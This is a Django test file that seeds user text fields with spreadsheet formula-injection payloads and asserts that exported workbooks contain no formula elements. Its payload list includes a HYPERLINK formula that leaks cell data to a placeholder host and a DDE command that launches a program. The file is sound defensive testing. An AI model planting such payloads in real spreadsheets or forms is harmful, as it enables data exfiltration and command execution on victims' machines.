"""No text a user typed becomes a formula in any workbook the app writes.

Every text field people fill in holds a formula-injection payload; then every workbook
the site can produce (the import template of each year, the audit report of one year and
of all years) is opened as a zip and each sheet's XML is searched for `<f>` elements.
"""

import re
import zipfile
from io import BytesIO

import pytest
from django.urls import reverse

from indicators.models import Indicator, IndicatorActual
from platforms.models import Platform
from projects.models import Project

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
]
FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


def formulas_in(content):
    """Names of the sheets whose XML holds a formula element."""
    with zipfile.ZipFile(BytesIO(content)) as package:
        return [
            name
            for name in package.namelist()
            if name.startswith("xl/worksheets/") and FORMULA.search(package.read(name))
        ]


@pytest.fixture
def hostile(annexes, manager):
    """Every free-text field people fill in holds a payload."""
    manager.first_name, manager.last_name = PAYLOADS[0], PAYLOADS[1]
    manager.save()
    for number, indicator in enumerate(Indicator.objects.order_by("serial")[:5]):
        payload = PAYLOADS[number % len(PAYLOADS)]
        actual = IndicatorActual(
            indicator=indicator,
            year=2022,
            value=indicator.baseline_value,
            note=payload,
            evidence=payload,
            entered_by=manager,
        )
        actual._history_user = manager
        actual.save()
        indicator.remark = payload
        indicator.save()
    Platform.objects.filter(serial__lte=3).update(remark=PAYLOADS[0], revoked_note=PAYLOADS[1])
    Project.objects.filter(row__lte=3).update(remark=PAYLOADS[1])


def test_the_pattern_finds_a_formula_openpyxl_writes():
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    buffer = BytesIO()
    book.save(buffer)
    assert formulas_in(buffer.getvalue()) == ["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize("year", [2021, 2022, 2023])
def test_import_template_holds_no_formula(client, hostile, manager, year):
    client.force_login(manager)
    response = client.get(reverse("admin:import_template"), {"year": year})
    assert response.status_code == 200
    assert formulas_in(response.content) == []


@pytest.mark.parametrize("query", [{"year": 2022}, {}])
def test_audit_report_holds_no_formula(client, hostile, auditor, query):
    client.force_login(auditor)
    response = client.get(reverse("audit:download"), query)
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    assert PAYLOADS[1].encode() in b"".join(
        zipfile.ZipFile(BytesIO(response.content)).read(name)
        for name in zipfile.ZipFile(BytesIO(response.content)).namelist()
        if name.startswith("xl/")
    )
